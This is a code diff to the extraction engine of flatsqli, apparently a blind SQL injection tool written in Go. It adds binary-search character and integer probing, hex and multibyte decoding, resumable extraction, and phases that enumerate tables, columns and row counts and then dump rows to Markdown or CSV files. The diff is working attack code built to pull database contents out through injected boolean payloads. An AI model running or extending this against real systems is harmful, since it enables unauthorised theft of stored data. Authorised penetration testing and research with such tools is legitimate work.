@@ -2,15 +2,30 @@ package finder
 
 import (
 	"fmt"
-
+	"math"
+	"sort"
+	"strconv"
+	"strings"
+	"time"
+
+	"github.com/morkin1792/flatsqli/internal/payloads"
+	"github.com/morkin1792/flatsqli/internal/requester"
 	"github.com/morkin1792/flatsqli/internal/storage"
 	"github.com/morkin1792/flatsqli/internal/ui"
 )
 
+const (
+	resumeMinLength = 64 // values at least this long save their progress, see savePartial
+	resumeEvery     = 16 // chars extracted between two saves
+)
+
 // formatRowCount formats a row count for display
-// Returns "+1M" for -1, "~100K" for approximate large values, exact number for small values
-func formatRowCount(count int) string {
+// Returns "+1M" for -1, "~100K" for approximate large values, exact number for small
+// values, or when exact is set (-exact-count)
+func formatRowCount(count int, exact bool) string {
 	switch {
+	case exact && count >= 0:
+		return fmt.Sprintf("%d", count)
 	case count == -1:
 		return "+1M"
 	case count >= 1000:
@@ -22,13 +37,114 @@ func formatRowCount(count int) string {
 
 // extractString extracts a string value using binary search
 func (f *Finder) extractString(query string) (string, error) {
+	return f.extractStringLimit(query, f.maxLen, true)
+}
+
+// extractCell extracts a cell value, as an integer when the value type says so
+func (f *Finder) extractCell(tableName, col, query string) (string, error) {
+	key := tableName + "." + col
+	switch {
+	case f.valueType == payloads.ValueInt:
+		return f.extractNumber(query)
+	case f.valueType == payloads.ValueAuto && !f.textColumns[key]:
+		isInt, err := f.calibration.Probe(f.requester, payloads.IntegerCheck(f.payloadGen, query))
+		if err != nil {
+			return "", err
+		}
+		if isInt {
+			return f.extractNumber(query)
+		}
+	}
+
+	f.searchValue = true
+	value, err := f.extractString(query)
+	f.searchValue = false
+	// NULL and empty cells fail the check too, they don't tell the column type
+	if value != "" && f.valueType == payloads.ValueAuto {
+		f.textColumns[key] = true
+	}
+	return value, err
+}
+
+// extractNumber extracts an integer value by searching it with (query)>n,
+// skipping the length and per-character probes. NULL comes out empty.
+func (f *Finder) extractNumber(query string) (string, error) {
+	f.uncertain = nil
+	number := payloads.IntegerValue(f.payloadGen, query)
+	value, null, err := payloads.SearchInteger(func(n int) (bool, error) {
+		return f.calibration.Probe(f.requester, f.payloadGen.GetComparisonPayload(number, n))
+	}, func() (bool, error) {
+		return f.calibration.Probe(f.requester, payloads.NullPayload(query))
+	})
+	if err != nil || null {
+		return "", err
+	}
+	return strconv.Itoa(value), nil
+}
+
+// extractStringLimit extracts a string value of at most maxLen chars (0 = no limit).
+// When remember is set the value is saved as a known string for prediction.
+// Positions of characters that failed the self-check are left in f.uncertain.
+func (f *Finder) extractStringLimit(query string, maxLen int, remember bool) (value string, err error) {
+	f.uncertain = nil
 	if f.payloadGen == nil {
 		ui.Verbose(f.verbose, "WARNING: payloadGen is nil!")
 		return "", nil
 	}
+	usage := f.requester.StartUsage()
+	defer func() { f.logCost(usage, value) }()
+	if f.hex {
+		return f.extractHex(query, maxLen, remember)
+	}
+	value, err = f.extractChars(query, f.minLen, maxLen, remember)
+	return f.decodeBytes(value), err
+}
+
+// logCost reports in verbose mode the requests and time a value took, to tell
+// expensive values apart and see what prediction saves
+func (f *Finder) logCost(usage requester.Usage, value string) {
+	if !f.verbose {
+		return
+	}
+	requests, elapsed := f.requester.Cost(usage)
+	perChar := 0.0
+	if n := len([]rune(value)); n > 0 {
+		perChar = float64(requests) / float64(n)
+	}
+	ui.Verbose(f.verbose, "Extracted %q in %d requests (%.1f per char), %s", value, requests, perChar, elapsed.Round(time.Millisecond))
+}
+
+// extractHex extracts a value through its hex representation (see SetHex)
+func (f *Finder) extractHex(query string, maxLen int, remember bool) (string, error) {
+	dbType := f.payloadGen.GetType()
+	scale := payloads.HexDigitsPerChar(dbType)
+	encoded, err := f.extractChars(f.payloadGen.GetHexQuery(query), f.minLen*scale, maxLen*scale, false)
+
+	// Uncertain hex digits make their whole character uncertain
+	var uncertain []int
+	for _, pos := range f.uncertain {
+		char := (pos-1)/scale + 1
+		if len(uncertain) == 0 || uncertain[len(uncertain)-1] != char {
+			uncertain = append(uncertain, char)
+		}
+	}
+	f.uncertain = uncertain
 
+	value, decodeErr := payloads.DecodeHex(dbType, encoded)
+	if err == nil {
+		err = decodeErr
+	}
+	if err == nil && remember && len(f.uncertain) == 0 {
+		f.cache.SaveKnownString(value)
+	}
+	return value, err
+}
+
+// extractChars extracts the characters of a query result, between minLen and
+// maxLen (0 = no limit) long
+func (f *Finder) extractChars(query string, minLen, maxLen int, remember bool) (value string, err error) {
 	// First, find the length
-	length, err := f.findLength(query)
+	length, err := f.findLength(query, minLen, maxLen)
 	if err != nil {
 		return "", err
 	}
@@ -38,23 +154,28 @@ func (f *Finder) extractString(query string) (string, error) {
 	}
 
 	// Apply max length limit
-	if f.maxLen > 0 && length > f.maxLen {
-		length = f.maxLen
+	if maxLen > 0 && length > maxLen {
+		length = maxLen
 	}
 
-	// Load cache for prediction
-	knownStrings := storage.LoadKnownStrings(f.host)
+	// A long value resumes from where a failed attempt stopped
+	result := append(make([]rune, 0, length), f.resumePrefix(query, length)...)
+	defer func() { f.savePartial(query, length, value, err == nil) }()
+
+	// Load cache for prediction (known strings are decoded, they never match hex)
 	var candidates []string
-	for _, s := range knownStrings {
-		if len(s) == length {
-			candidates = append(candidates, s)
+	if !f.hex {
+		for _, s := range f.cache.LoadKnownStrings() {
+			if len(s) == length && strings.HasPrefix(s, string(result)) {
+				candidates = append(candidates, s)
+			}
 		}
 	}
 
 	// Extract each character
-	result := make([]byte, 0, length)
-	for i := 1; i <= length; i++ {
-		var char byte
+	searched := 0
+	for i := len(result) + 1; i <= length; i++ {
+		var char rune
 		var found bool
 
 		// 1. Try prediction from cache
@@ -68,7 +189,7 @@ func (f *Finder) extractString(query string) (string, error) {
 			// Test each candidate character
 			for c := range nextChars {
 				payload := f.payloadGen.GetEqualityPayload(query, i, int(c))
-				resp, err := f.requester.Send(payload)
+				isTrue, err := f.calibration.Probe(f.requester, payload)
 				if err != nil {
 					// On error, let's propagate error to trigger retry/fallback logic outside
 					if len(result) > 0 {
@@ -77,8 +198,8 @@ func (f *Finder) extractString(query string) (string, error) {
 					return "", err
 				}
 
-				if f.calibration.IsTrue(resp.Fingerprint) {
-					char = c
+				if isTrue {
+					char = rune(c)
 					found = true
 
 					// Filter candidates to keep only matches
@@ -109,46 +230,131 @@ func (f *Finder) extractString(query string) (string, error) {
 				}
 				return "", err
 			}
+
+			// Occasionally re-verify with an equality probe
+			searched++
+			if f.shouldVerify(searched) {
+				var confirmed bool
+				char, confirmed, err = f.verifyChar(query, i, char)
+				if err != nil {
+					return string(result), err
+				}
+				if !confirmed {
+					f.uncertain = append(f.uncertain, i)
+				}
+			}
 		}
 
 		result = append(result, char)
 		// Show live extraction progress
 		ui.Progress("Extracting: %s [%d/%d]", string(result), i, length)
+
+		if length >= resumeMinLength && i%resumeEvery == 0 {
+			f.savePartial(query, length, string(result), false)
+		}
 	}
 
-	// Save the new string to cache
-	storage.SaveKnownString(f.host, string(result))
+	// Save the new string to cache (uncertain values are not trusted for prediction)
+	if remember && len(f.uncertain) == 0 {
+		f.cache.SaveKnownString(string(result))
+	}
 
 	return string(result), nil
 }
 
+// resumePrefix returns the prefix of a long value saved by an earlier, failed
+// extraction of query, if the value still starts with it
+func (f *Finder) resumePrefix(query string, length int) []rune {
+	if length < resumeMinLength {
+		return nil
+	}
+	prefix := []rune(f.cache.LoadPartialValue(query))
+	if len(prefix) == 0 || len(prefix) >= length {
+		return nil
+	}
+
+	pos := len(prefix)
+	payload := fmt.Sprintf("%s((%s),1,%d)='%s'", f.payloadGen.GetSubstringFunc(), query, pos, strings.ReplaceAll(string(prefix), "'", "''"))
+	isTrue, err := f.calibration.Probe(f.requester, payload)
+	if err != nil || !isTrue {
+		ui.Verbose(f.verbose, "Cached prefix no longer matches, extracting from the start")
+		return nil
+	}
+	ui.Verbose(f.verbose, "Resuming extraction at char %d/%d from the cache", pos+1, length)
+	return prefix
+}
+
+// savePartial saves the prefix of a long value being extracted, so a retry
+// resumes from it, and clears it once the value is done. Characters from the
+// first uncertain one on are not saved.
+func (f *Finder) savePartial(query string, length int, value string, done bool) {
+	if length < resumeMinLength {
+		return
+	}
+	if done {
+		f.cache.SavePartialValue(query, "")
+		return
+	}
+	prefix := []rune(value)
+	if len(f.uncertain) > 0 {
+		prefix = prefix[:min(len(prefix), f.uncertain[0]-1)]
+	}
+	f.cache.SavePartialValue(query, string(prefix))
+}
+
 // findLength finds the length of a query result using binary search
-func (f *Finder) findLength(query string) (int, error) {
+func (f *Finder) findLength(query string, minLen, maxLen int) (int, error) {
 	low := 0
 	high := 256
 
+	// Lengths above maxLen are capped anyway, no need to search past it
+	if maxLen > 0 {
+		high = maxLen
+	}
+
 	// Check if there's any data
-	payload := f.payloadGen.GetLengthPayload(query, 0)
-	resp, err := f.requester.Send(payload)
+	payload := f.charset.LengthPayload(f.payloadGen, query, 0)
+	isTrue, err := f.calibration.Probe(f.requester, payload)
 	if err != nil {
 		return 0, err
 	}
 
-	if !f.calibration.IsTrue(resp.Fingerprint) {
+	if !isTrue {
 		return 0, nil
 	}
 
+	// Without a cap, grow the range until it holds the length
+	if maxLen == 0 {
+		for high < maxBlobLength {
+			isTrue, err := f.calibration.Probe(f.requester, f.charset.LengthPayload(f.payloadGen, query, high))
+			if err != nil {
+				return 0, err
+			}
+			if !isTrue {
+				break
+			}
+			low = high
+			high *= 2
+		}
+	}
+
+	// Empty values still mark the end of rows/columns, so the minimum
+	// length hint only applies once the value is known to be non-empty
+	if minLen > 0 {
+		low = max(low, min(minLen, high))
+	}
+
 	// Binary search for exact length
 	for low < high {
 		mid := (low + high + 1) / 2
-		payload := f.payloadGen.GetLengthPayload(query, mid-1)
+		payload := f.charset.LengthPayload(f.payloadGen, query, mid-1)
 
-		resp, err := f.requester.Send(payload)
+		isTrue, err := f.calibration.Probe(f.requester, payload)
 		if err != nil {
 			return 0, err
 		}
 
-		if f.calibration.IsTrue(resp.Fingerprint) {
+		if isTrue {
 			low = mid
 		} else {
 			high = mid - 1
@@ -159,27 +365,68 @@ func (f *Finder) findLength(query string) (int, error) {
 }
 
 // findChar finds a character at a position using binary search
-func (f *Finder) findChar(query string, pos int) (byte, error) {
-	low := 32
-	high := 126
+func (f *Finder) findChar(query string, pos int) (rune, error) {
+	if f.searchValue && len(f.valueCharset) > 0 && !f.hex {
+		return f.valueCharset.Search(func(n int) (bool, error) {
+			return f.calibration.Probe(f.requester, f.charPayload(query, pos, n))
+		})
+	}
+
+	low, high := f.charset.Bounds()
+	if f.hex {
+		low, high = payloads.HexLow, payloads.HexHigh
+	}
+
+	// Multibyte chars have code points above the byte range
+	if f.charset.Multibyte() && f.codePoints() {
+		isTrue, err := f.calibration.Probe(f.requester, f.payloadGen.GetCodePayload(query, pos, high))
+		if err != nil {
+			return 0, err
+		}
+		if isTrue {
+			low, high = high+1, payloads.MaxCodePoint
+		}
+	}
 
 	for low < high {
 		mid := (low + high + 1) / 2
-		payload := f.payloadGen.GetCharPayload(query, pos, mid-1)
+		payload := f.charPayload(query, pos, mid-1)
 
-		resp, err := f.requester.Send(payload)
+		isTrue, err := f.calibration.Probe(f.requester, payload)
 		if err != nil {
 			return 0, err
 		}
 
-		if f.calibration.IsTrue(resp.Fingerprint) {
+		if isTrue {
 			low = mid
 		} else {
 			high = mid - 1
 		}
 	}
 
-	return byte(low), nil
+	return rune(low), nil
+}
+
+// charPayload returns the char comparison payload for the configured charset
+func (f *Finder) charPayload(query string, pos int, n int) string {
+	if f.codePoints() {
+		return f.payloadGen.GetCodePayload(query, pos, n)
+	}
+	return f.payloadGen.GetCharPayload(query, pos, n)
+}
+
+// codePoints reports whether characters are probed as code points
+func (f *Finder) codePoints() bool {
+	return f.charset.UsesCodePoints() && !f.hex && payloads.ReadsCodePoints(f.payloadGen)
+}
+
+// decodeBytes decodes values read byte by byte where code points are not
+// available (see payloads.ReadsCodePoints)
+func (f *Finder) decodeBytes(value string) string {
+	if f.charset.UsesCodePoints() && !payloads.ReadsCodePoints(f.payloadGen) {
+		return payloads.DecodeBytes(value)
+	}
+	return value
 }
 
 // ImportantDataPattern is the preset pattern for -find-important-data
@@ -192,24 +439,30 @@ func (f *Finder) Run(pattern string, tableLimit, rowLimit int, useCache bool, ou
 	var tableColumns map[string][]string
 
 	// Try to load cached tables for this host
-	cachedTables, cacheHit := storage.LoadTables(f.host)
+	cachedTables, cacheHit := f.cache.LoadTables()
 	if useCache && cacheHit && len(cachedTables) > 0 {
 		// Use cached table names - skip Phase 1
 		ui.Info("Phase 1: Using %d cached tables", len(cachedTables))
 		tableColumns = make(map[string][]string)
 		for tableName, tableCache := range cachedTables {
-			tableNames = append(tableNames, tableName)
+			tableNames = append(tableNames, f.exactName(tableName))
 			if tableCache != nil {
 				tableColumns[tableName] = tableCache.Columns
+				for _, col := range tableCache.Columns {
+					f.exactName(col)
+				}
 			}
 		}
 	} else {
 		// Phase 1: Find matching tables
 		ui.Info("Phase 1: Discovering tables...")
 		matches, err := f.FindColumns(pattern, tableLimit, func(tableName string) {
-			_ = storage.AddTableColumn(f.host, tableName, "")
+			_ = f.cache.AddTableColumn(tableName, "")
 		})
 		if err != nil {
+			if stopsRun(err) {
+				ui.Warning("Table discovery stopped: %v", err)
+			}
 			return err
 		}
 
@@ -225,11 +478,19 @@ func (f *Finder) Run(pattern string, tableLimit, rowLimit int, useCache bool, ou
 		}
 	}
 
+	// Once the run is stopped (see stopsRun), remaining work is skipped but
+	// everything extracted so far is still written out and cached
+	var stopErr error
+
 	// Get row counts for all tables
 	tableRowCounts := make(map[string]int)
 	for _, tableName := range tableNames {
 		ui.Progress("Counting rows in %s...", tableName)
 		rowCount, err := f.GetRowCount(tableName)
+		if stopsRun(err) {
+			stopErr = err
+			break
+		}
 		if err != nil {
 			ui.Verbose(f.verbose, "Could not get row count: %v", err)
 			rowCount = 0
@@ -242,7 +503,7 @@ func (f *Finder) Run(pattern string, tableLimit, rowLimit int, useCache bool, ou
 	ui.Success("Found %d tables:", len(tableNames))
 	for _, tableName := range tableNames {
 		rowCount := tableRowCounts[tableName]
-		rowStr := formatRowCount(rowCount)
+		rowStr := formatRowCount(rowCount, f.exactCount)
 		ui.Info("  - %s (%s rows)", tableName, rowStr)
 	}
 
@@ -250,6 +511,9 @@ func (f *Finder) Run(pattern string, tableLimit, rowLimit int, useCache bool, ou
 	ui.Info("Phase 2: Retrieving columns...")
 	tableAllColumns := make(map[string][]string)
 	for _, tableName := range tableNames {
+		if stopErr != nil {
+			break
+		}
 		if tableRowCounts[tableName] == 0 {
 			ui.Info("Skipping columns for %s (0 rows)", tableName)
 			continue
@@ -272,11 +536,19 @@ func (f *Finder) Run(pattern string, tableLimit, rowLimit int, useCache bool, ou
 
 		// Retrieve columns from database
 		allColumns, err := f.GetTableColumns(tableName, func(colName string) {
-			_ = storage.AddTableColumn(f.host, tableName, colName)
+			_ = f.cache.AddTableColumn(tableName, colName)
 		})
+		if stopsRun(err) {
+			stopErr = err
+		}
 		if err != nil || len(allColumns) == 0 {
 			ui.Verbose(f.verbose, "Could not get all columns for %s, using matched columns only", tableName)
-			allColumns = tableColumns[tableName]
+			allColumns = knownColumns(tableColumns[tableName])
+		}
+		if len(allColumns) == 0 {
+			// Tables found in a fallback catalog come without column names
+			ui.Warning("Columns of %s are unknown, dump it with -dt %s -columns <col1,col2,...>", tableName, tableName)
+			continue
 		}
 		tableAllColumns[tableName] = allColumns
 		ui.Info("  - %s: %d columns", tableName, len(allColumns))
@@ -285,16 +557,23 @@ func (f *Finder) Run(pattern string, tableLimit, rowLimit int, useCache bool, ou
 	// Prepare output data
 	var outputData []TableData
 
-	// Initialize output file before Phase 3
-	if outputFile != "" {
-		if err := InitOutputFile(outputFile); err != nil {
+	// Initialize output file before Phase 3 (CSV uses one file per table)
+	if outputFile != "" && f.streamsMarkdown() {
+		if err := InitOutputFile(outputFile, f.appendOutput); err != nil {
 			ui.Verbose(f.verbose, "Failed to create output file: %v", err)
 		}
 	}
 
 	// Phase 3: Extract rows
 	ui.Info("Phase 3: Extracting data...")
+	if f.maxRowsTotal > 0 {
+		prioritizeTables(tableNames, tableColumns, tableRowCounts)
+	}
+	extracted := 0
 	for _, tableName := range tableNames {
+		if stopErr != nil {
+			break
+		}
 		columns := tableAllColumns[tableName]
 		rowCount := tableRowCounts[tableName]
 
@@ -303,6 +582,14 @@ func (f *Finder) Run(pattern string, tableLimit, rowLimit int, useCache bool, ou
 		if rowCount < rowLimit && rowCount > 0 {
 			actualLimit = rowCount
 		}
+		if f.maxRowsTotal > 0 {
+			remaining := f.maxRowsTotal - extracted
+			if remaining <= 0 {
+				ui.Warning("Reached %d rows in total (see -max-rows-total), skipping the remaining tables", f.maxRowsTotal)
+				break
+			}
+			actualLimit = min(actualLimit, remaining)
+		}
 
 		if actualLimit == 0 || len(columns) == 0 {
 			ui.Info("Skipping %s (0 rows or columns)", tableName)
@@ -311,13 +598,34 @@ func (f *Finder) Run(pattern string, tableLimit, rowLimit int, useCache bool, ou
 
 		ui.Info("Extracting %d rows from %s...", actualLimit, tableName)
 
+		// Stream rows to a per-table CSV file as they are extracted
+		var onRow func([]string)
+		if outputFile != "" && f.outputFormat == OutputCSV {
+			csvPath := csvPathForTable(outputFile, tableName)
+			if err := initCSVFile(csvPath, columns, f.appendOutput); err != nil {
+				ui.Verbose(f.verbose, "Failed to create CSV file: %v", err)
+			} else {
+				onRow = func(row []string) {
+					if err := appendCSVRow(csvPath, row); err != nil {
+						ui.Verbose(f.verbose, "Failed to append row to CSV: %v", err)
+					}
+				}
+				ui.Info("Writing %s to: %s", tableName, csvPath)
+			}
+		}
+
 		// Extract rows (uses cached row values for prediction)
-		rows, err := f.ExtractTableRowsWithCache(tableName, columns, actualLimit, pattern)
-		if err != nil {
+		rows, err := f.ExtractTableRowsWithCache(tableName, columns, actualLimit, pattern, onRow)
+		if stopsRun(err) {
+			// Flush the partial table below, then stop
+			stopErr = err
+		} else if err != nil {
 			ui.Verbose(f.verbose, "Failed to extract rows: %v", err)
 			continue
 		}
 
+		extracted += len(rows)
+
 		// Save rows to cache
 		for _, row := range rows {
 			rowMap := make(map[string]string)
@@ -326,7 +634,7 @@ func (f *Finder) Run(pattern string, tableLimit, rowLimit int, useCache bool, ou
 					rowMap[col] = row[i]
 				}
 			}
-			_ = storage.AddTableRow(f.host, tableName, rowMap)
+			_ = f.cache.AddTableRow(tableName, rowMap)
 		}
 
 		tableData := TableData{
@@ -334,11 +642,12 @@ func (f *Finder) Run(pattern string, tableLimit, rowLimit int, useCache bool, ou
 			Columns:   columns,
 			Rows:      rows,
 			RowCount:  rowCount,
+			Exact:     f.exactCount,
 		}
 		outputData = append(outputData, tableData)
 
 		// Write to output file immediately
-		if outputFile != "" {
+		if outputFile != "" && f.streamsMarkdown() {
 			if err := AppendTableToOutput(outputFile, tableData); err != nil {
 				ui.Verbose(f.verbose, "Failed to append to output file: %v", err)
 			}
@@ -349,6 +658,11 @@ func (f *Finder) Run(pattern string, tableLimit, rowLimit int, useCache bool, ou
 	}
 
 	if outputFile != "" && len(outputData) > 0 {
+		if f.template != nil && f.outputFormat != OutputCSV {
+			if err := f.writeReport(outputFile, outputData); err != nil {
+				ui.Warning("Failed to write report: %v", err)
+			}
+		}
 		ui.Info("Output written to: %s", outputFile)
 	}
 
@@ -358,18 +672,44 @@ func (f *Finder) Run(pattern string, tableLimit, rowLimit int, useCache bool, ou
 		cacheData[tableName] = &storage.TableCache{Columns: cols}
 	}
 	if len(cacheData) > 0 {
-		if err := storage.SaveTables(f.host, cacheData); err != nil {
+		if err := f.cache.SaveTables(cacheData); err != nil {
 			ui.Verbose(f.verbose, "Failed to save cache: %v", err)
 		}
 	}
+	if err := f.cache.Flush(); err != nil {
+		ui.Verbose(f.verbose, "Failed to save cache: %v", err)
+	}
+
+	if stopErr != nil {
+		ui.Warning("Stopped early (%v), results are partial", stopErr)
+		return stopErr
+	}
 
 	return nil
 }
 
+// prioritizeTables sorts tables by matched columns (more first), then by row
+// count (smaller first), so a global row cap is spent on the most relevant data
+func prioritizeTables(tableNames []string, matched map[string][]string, rowCounts map[string]int) {
+	size := func(table string) int {
+		if count := rowCounts[table]; count >= 0 {
+			return count
+		}
+		return math.MaxInt // +1M
+	}
+	sort.SliceStable(tableNames, func(i, j int) bool {
+		a, b := tableNames[i], tableNames[j]
+		if len(matched[a]) != len(matched[b]) {
+			return len(matched[a]) > len(matched[b])
+		}
+		return size(a) < size(b)
+	})
+}
+
 // ExtractTableRowsWithCache extracts rows using cached values for prediction
-func (f *Finder) ExtractTableRowsWithCache(tableName string, columns []string, rowLimit int, pattern string) ([][]string, error) {
+func (f *Finder) ExtractTableRowsWithCache(tableName string, columns []string, rowLimit int, pattern string, onRow func([]string)) ([][]string, error) {
 	// Get cached rows for prediction
-	cachedRows := storage.GetTableRows(f.host, tableName)
+	cachedRows := f.cache.GetTableRows(tableName)
 
 	// Build prediction values from cached rows
 	var predictionValues []string
@@ -381,5 +721,5 @@ func (f *Finder) ExtractTableRowsWithCache(tableName string, columns []string, r
 		}
 	}
 
-	return f.ExtractTableRows(tableName, columns, rowLimit)
+	return f.ExtractTableRows(tableName, columns, rowLimit, onRow)
 }